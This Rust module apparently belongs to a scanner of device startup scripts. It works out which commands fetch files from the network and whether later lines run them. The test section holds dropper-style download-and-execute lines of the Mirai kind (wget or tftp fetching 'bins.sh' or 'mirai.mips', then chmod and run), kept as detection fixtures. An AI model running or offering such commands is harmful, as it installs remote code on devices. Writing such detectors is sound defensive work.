//! Programs that fetch, what they write where, and what a startup file runs of it later.

use super::commands::{Commands, Role, Words, is_starter};
use super::place::place;
use super::text::{Bytes, basename};
use crate::limits::{FETCHED, FETCHED_BYTES};

/// Where a fetching command puts what it fetched.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Fetch<'a> {
    /// To its output, where a pipe takes it.
    Output,
    /// To a file of this name.
    File(&'a [u8]),
}

/// What a command fetches from the network, if it does.
#[must_use]
pub fn fetch(commands: &Commands, command: u16) -> Option<Fetch<'_>> {
    let own = || arguments(commands, command);
    let fetched = match commands.name(command) {
        b"wget" | b"uclient-fetch" => match option(own(), b'O', b"--output-document", WGET_VALUES) {
            Some(file) => to(file),
            None => Fetch::File(remote_name(own())?),
        },
        b"curl" => match option(own(), b'o', b"--output", CURL_VALUES) {
            Some(file) => to(file),
            None if has_flag(own(), b'O', b"--remote-name", CURL_VALUES) => Fetch::File(remote_name(own())?),
            None => Fetch::Output,
        },
        b"tftp" => match option(own(), b'l', b"--local", b"rb") {
            Some(file) => to(file),
            None => Fetch::File(option(own(), b'r', b"--remote", b"lb").or_else(|| own().last())?),
        },
        // ftpget HOST LOCAL REMOTE, or HOST REMOTE (BusyBox, networking/ftpgetput.c).
        b"ftpget" => {
            let (mut local, mut remote) = (&b""[..], &b""[..]);
            for word in own() {
                local = core::mem::replace(&mut remote, word);
            }
            to(if host_like(local) { remote } else { local })
        }
        b"nc" | b"ncat" | b"netcat" | b"lynx" | b"ssl_client" => Fetch::Output,
        _ => return None,
    };
    match (fetched, commands.words(command, Role::Output).next()) {
        (Fetch::Output, Some(file)) => Some(Fetch::File(file)),
        _ => Some(fetched),
    }
}

/// What stands behind the program.
fn arguments(commands: &Commands, command: u16) -> Words<'_> {
    let mut words = commands.program(command);
    words.next();
    words
}

/// Letters of short options that take a value, which may hold any other letter (wget(1), BusyBox networking/wget.c;
/// curl(1)).
const WGET_VALUES: &[u8] = b"aoeiBtTwQPUYARDIXl";
const CURL_VALUES: &[u8] = b"AbcCdDeEFhHKmPQrtTuUwxXyYz";

/// What a file name means to a fetcher.
fn to(file: &[u8]) -> Fetch<'_> {
    match file {
        b"-" | b"/dev/stdout" | b"/dev/fd/1" | b"/proc/self/fd/1" => Fetch::Output,
        _ => Fetch::File(file),
    }
}

/// Nothing, or digits and dots only: the host of `ftpget`, not a file.
fn host_like(word: &[u8]) -> bool {
    word.iter().all(|b| b.is_ascii_digit() || *b == b'.')
}

/// The value of a short option, alone, in a cluster (`-qO-`) or as `--long=value`, which may be abbreviated (getopt(3)).
/// `values` are the letters of other options that take one.
fn option<'a>(mut words: Words<'a>, short: u8, long: &[u8], values: &[u8]) -> Option<&'a [u8]> {
    const SHORTEST: usize = 5;
    while let Some(word) = words.next() {
        if word.starts_with(b"--") {
            let name = word.split(|b| *b == b'=').next().unwrap_or_default();
            if name.len() >= SHORTEST && long.starts_with(name) {
                return word.get(name.len().saturating_add(1)..).or_else(|| words.next());
            }
        } else if let Some(at) = letter(word, short, values) {
            let value = word.get(at.saturating_add(1)..).unwrap_or_default();
            return if value.is_empty() { words.next() } else { Some(value) };
        }
    }
    None
}

fn has_flag(mut words: Words<'_>, short: u8, long: &[u8], values: &[u8]) -> bool {
    words.any(|word| word == long || letter(word, short, values).is_some())
}

/// Where a letter stands in a cluster of short options. What follows a letter that takes a value is that value.
fn letter(word: &[u8], short: u8, values: &[u8]) -> Option<usize> {
    let end =
        word.iter().skip(1).position(|b| values.contains(b)).map_or(word.len(), |at| at.saturating_add(1));
    let letters = word.get(..end).filter(|_| is_cluster(word))?;
    letters.iter().position(|b| *b == short)
}

/// `-abc`: one dash, then letters.
fn is_cluster(word: &[u8]) -> bool {
    word.first() == Some(&b'-') && word.get(1).is_some_and(u8::is_ascii_alphabetic)
}

/// The file name that a URL gives: what follows the last slash, without a query.
fn remote_name(words: Words<'_>) -> Option<&[u8]> {
    let url = words.filter(|word| word.first() != Some(&b'-')).last()?;
    let name = basename(url).split(|b| *b == b'?').next()?;
    Some(if name.is_empty() { b"index.html" } else { name })
}

/// The words of a command that name code it runs: the program and those that start it, the script of a shell or what is
/// fed to one, what `start-stop-daemon`, procd and `insmod` are told to start, and what `LD_PRELOAD` and `PATH` name.
pub fn executed<'a>(commands: &'a Commands, command: u16, each: &mut dyn FnMut(&'a [u8])) {
    let length = commands.program(command).count();
    let all = || commands.words(command, Role::Argument);
    for word in all() {
        let library = word.strip_prefix(b"LD_PRELOAD=");
        if let Some(list) = library.or_else(|| word.strip_prefix(b"PATH=")) {
            list.split(|b| matches!(b, b' ' | b':')).for_each(&mut *each);
        }
    }
    for word in all().take(all().count().saturating_sub(length)) {
        if is_starter(word) {
            each(word);
        }
    }
    let mut words = commands.program(command);
    let Some(program) = words.next() else { return };
    each(program);
    let mut operand = || words.find(|word| word.first() != Some(&b'-'));
    match basename(program) {
        b"start-stop-daemon" => {
            for (short, long) in [(b'x', &b"--exec"[..]), (b'a', b"--startas")] {
                if let Some(word) = option(arguments(commands, command), short, long, b"") {
                    each(word);
                }
            }
        }
        b"procd_set_param" if operand() == Some(b"command") => operand().into_iter().for_each(each),
        b"insmod" | b"service_start" | b"daemon" => operand().into_iter().for_each(each),
        _ if commands.is_shell(command) => shell_runs(commands, command, each),
        _ => {}
    }
}

/// What a shell runs besides itself: its script, a variable that it evaluates, or its input.
fn shell_runs<'a>(commands: &'a Commands, command: u16, each: &mut dyn FnMut(&'a [u8])) {
    let own = || arguments(commands, command);
    let text = has_flag(own(), b'c', b"--command", b"");
    if text || commands.name(command) == b"eval" {
        own().filter(|word| word.first() == Some(&b'$')).for_each(&mut *each);
    } else if let Some(script) = own().find(|word| !matches!(word.first(), Some(b'-' | b'+'))) {
        each(script);
    }
    commands.words(command, Role::Input).for_each(&mut *each);
    for from in commands.feeders(command).filter(|from| commands.name(*from) == b"cat") {
        arguments(commands, from).for_each(&mut *each);
    }
}

/// What earlier lines of one startup file have fetched and where they have gone.
#[derive(Clone, Debug, Default)]
pub struct Memory {
    fetched: heapless::Vec<(Bytes<FETCHED_BYTES>, u32), FETCHED>,
    directory: Bytes<FETCHED_BYTES>,
    directory_line: u32,
    runs: Option<Run>,
    from_directory: Option<u16>,
    full: bool,
}

/// What earlier lines of its file say of a line.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Joined<'a> {
    /// Its first command that runs what the file fetched.
    pub runs: Option<Run>,
    /// Its first command that runs something by a name relative to an odd place.
    pub from_odd_directory: Option<u16>,
    /// The directory that the file has changed to, where it is known.
    pub directory: &'a [u8],
}

/// A command that runs what was fetched.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Run {
    /// The command in its line.
    pub command: u16,
    /// The line that fetched it.
    pub fetched_at: u32,
}

impl Memory {
    /// Of a file of which nothing was read.
    #[must_use]
    pub const fn new() -> Self {
        Self {
            fetched: heapless::Vec::new(),
            directory: Bytes::new(),
            directory_line: 0,
            runs: None,
            from_directory: None,
            full: false,
        }
    }

    /// About the last line learnt.
    #[must_use]
    pub fn joined(&self) -> Joined<'_> {
        let directory = self.directory.as_slice();
        Joined { runs: self.runs, from_odd_directory: self.from_directory, directory }
    }

    /// Whether more was fetched than is remembered.
    #[must_use]
    pub const fn is_full(&self) -> bool {
        self.full
    }

    /// Learns from the commands of one line, in their order.
    pub(super) fn learn(&mut self, commands: &Commands, line: u32) {
        self.runs = None;
        self.from_directory = None;
        for (index, _) in commands.iter() {
            let (mut run, mut relative) = (None, false);
            let is_shell = commands.is_shell(index);
            executed(commands, index, &mut |word| {
                let named = word.contains(&b'/') || word.first() == Some(&b'$') || is_shell;
                run = run.or_else(|| self.line_that_fetched(word).filter(|_| named));
                let script = is_shell && commands.name(index) != basename(word);
                relative |= word.first().is_some_and(|b| !matches!(b, b'/' | b'$' | b'-'))
                    && (word.contains(&b'/') || script)
                    && self.is_odd_there(word);
            });
            if let Some(fetched_at) = run {
                self.runs = self.runs.or(Some(Run { command: index, fetched_at }));
            }
            if relative {
                self.from_directory = self.from_directory.or(Some(index));
            }
            self.note(commands, index, line);
        }
    }

    /// Whether a relative name is in an odd place, as far as the directory is known.
    fn is_odd_there(&self, word: &[u8]) -> bool {
        let mut path = self.directory.clone();
        path.push(b"/");
        path.push(word);
        !self.directory.is_empty() && place(path.as_slice()).is_odd()
    }

    fn note(&mut self, commands: &Commands, index: u16, line: u32) {
        let operands = || arguments(commands, index).filter(|word| word.first() != Some(&b'-'));
        let fetches = |from: u16| fetch(commands, from) == Some(Fetch::Output);
        let fed = commands.feeders(index).any(fetches);
        match commands.name(index) {
            // `cd /tmp || cd /mnt || cd /`: the first that there is, so on one line an odd one stays.
            b"cd" => {
                let there = operands().next().filter(|dir| dir.first() == Some(&b'/')).unwrap_or_default();
                let odd = place(self.directory.as_slice()).is_odd() && self.directory_line == line;
                if !odd {
                    self.directory = Bytes::of(there);
                    self.directory_line = line;
                }
            }
            b"mv" | b"cp" => {
                let mut operands = operands();
                if let (Some(from), Some(to)) = (operands.next(), operands.next()) {
                    self.also(from, to);
                }
            }
            b"cat" => {
                if let (Some(from), Some(to)) =
                    (operands().next(), commands.words(index, Role::Output).next())
                {
                    self.also(from, to);
                }
            }
            b"tee" if fed => operands().for_each(|file| self.remember(file, line)),
            b"dd" if fed => {
                for file in operands().filter_map(|word| word.strip_prefix(b"of=")) {
                    self.remember(file, line);
                }
            }
            b"" => self.variable(commands, index, line),
            _ => {}
        }
        if let Some(Fetch::File(file)) = fetch(commands, index) {
            self.remember(file, line);
        }
        if let Some(file) = commands.words(index, Role::Output).next().filter(|_| fed) {
            self.remember(file, line);
        }
    }

    /// `x=$(wget …)`: what `$x` holds was fetched.
    fn variable(&mut self, commands: &Commands, index: u16, line: u32) {
        if !commands.inside(index).any(|inner| fetch(commands, inner) == Some(Fetch::Output)) {
            return;
        }
        let unfiltered = commands.inside(index).count() == 1;
        for word in commands.words(index, Role::Argument).filter(|_| unfiltered) {
            if let Some(name) = word.strip_suffix(b"=") {
                let mut variable = Bytes::<FETCHED_BYTES>::of(b"$");
                variable.push(name);
                self.remember(variable.as_slice(), line);
            }
        }
    }

    /// A copy of what was fetched was fetched too.
    fn also(&mut self, from: &[u8], to: &[u8]) {
        if let Some(fetched_at) = self.line_that_fetched(from) {
            self.remember(to, fetched_at);
        }
    }

    fn remember(&mut self, file: &[u8], line: u32) {
        if file == b"/dev/null" || self.line_that_fetched(file).is_some() {
            return;
        }
        let name = Bytes::of(file);
        if name.is_cut() || self.fetched.push((name, line)).is_err() {
            self.full = true;
        }
    }

    /// The line that fetched a file of this name. Two absolute paths must be equal; otherwise the directory is
    /// not known and the last component decides.
    fn line_that_fetched(&self, file: &[u8]) -> Option<u32> {
        let absolute = |path: &[u8]| path.first() == Some(&b'/');
        let same = |kept: &[u8]| {
            if absolute(kept) && absolute(file) { kept == file } else { basename(kept) == basename(file) }
        };
        let is_name = !basename(file).is_empty();
        self.fetched.iter().find(|(kept, _)| is_name && same(kept.as_slice())).map(|(_, line)| *line)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fetchers_and_where_they_write() {
        for (text, expected) in [
            (&b"wget http://h/bins.sh"[..], Some(Fetch::File(b"bins.sh"))),
            (b"wget -q -O - http://h/x", Some(Fetch::Output)),
            (b"busybox wget http://h/x -qO-", Some(Fetch::Output)),
            (b"wget -O/tmp/x http://h/y", Some(Fetch::File(b"/tmp/x"))),
            (b"wget --output-document=/tmp/x http://h/y", Some(Fetch::File(b"/tmp/x"))),
            (b"curl -fsSL http://h/x", Some(Fetch::Output)),
            (b"curl -fsSLo /tmp/x http://h/x", Some(Fetch::File(b"/tmp/x"))),
            (b"curl -O http://h/x?y=1", Some(Fetch::File(b"x"))),
            (b"curl http://h/x > $F", Some(Fetch::File(b"$F"))),
            (b"tftp -g -l dvrHelper -r mirai.mips 192.0.2.1", Some(Fetch::File(b"dvrHelper"))),
            (b"tftp 192.0.2.1 -c get x", Some(Fetch::File(b"x"))),
            (b"ftpget -v -u a -p b -P 21 192.0.2.1 local.sh remote.sh", Some(Fetch::File(b"local.sh"))),
            (b"ftpget 192.0.2.1 remote.sh", Some(Fetch::File(b"remote.sh"))),
            (b"wget -UOpera -O- http://h/x", Some(Fetch::Output)),
            (b"wget --output-doc=- http://h/x", Some(Fetch::Output)),
            (b"curl -XPOST -Afoo http://h/x", Some(Fetch::Output)),
            (b"timeout -s KILL 5 wget -O /dev/stdout http://h/x", Some(Fetch::Output)),
            (b"sh x", None),
        ] {
            let mut commands = Commands::new();
            commands.parse(text);
            assert_eq!(fetch(&commands, 0), expected, "{}", String::from_utf8_lossy(text));
        }
    }

    fn runs(text: &[u8]) -> Option<u32> {
        let (mut commands, mut memory) = (Commands::new(), Memory::new());
        (1_u32..).zip(text.split(|b| *b == b'\n')).find_map(|(number, line)| {
            commands.parse(line);
            memory.learn(&commands, number);
            memory.joined().runs.map(|run| run.fetched_at)
        })
    }

    #[test]
    fn what_was_fetched_and_is_run_later() {
        for text in [
            &b"wget http://h/bins.sh; chmod 777 bins.sh; sh bins.sh"[..],
            b"cd /tmp\ntftp -g -l d -r m.mips 192.0.2.1\n./d",
            b"curl -o /tmp/x http://h/y && chmod +x /tmp/x && /tmp/x &",
            b"wget -O \"$F\" http://h/x\nchmod +x $F\n${F}",
            b"wget http://h/a; mv a /etc/b\n. /etc/b",
            b"curl http://h/x | gunzip > /tmp/y; nohup /tmp/y",
            b"wget http://h/x -O /tmp/x\nstart-stop-daemon -S -b -x /tmp/x",
            b"cd /tmp || cd /; wget http://h/mips; cat mips >WTF; chmod +x *; ./WTF",
            b"x=$(wget -qO- http://h/x); eval \"$x\"",
            b"wget http://h/x; sh <x",
            b"wget http://h/x; cat x | sh",
            b"wget -O- http://h/x | tee /tmp/y; sh /tmp/y",
        ] {
            assert!(runs(text).is_some(), "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn what_is_only_saved_is_not_run() {
        for text in [
            &b"wget -O /tmp/fw.bin http://h/fw.bin; sysupgrade /tmp/fw.bin"[..],
            b"curl -o $TMP http://h/list; sort $TMP > /tmp/list; mv /tmp/list /etc/list",
            b"wget -qO- http://h/ip | grep x > /tmp/ip; read IP < /tmp/ip",
            b"sh x; wget http://h/x",
            b"wget http://h/sysupgrade; sysupgrade",
        ] {
            assert_eq!(runs(text), None, "{}", String::from_utf8_lossy(text));
        }
    }
}
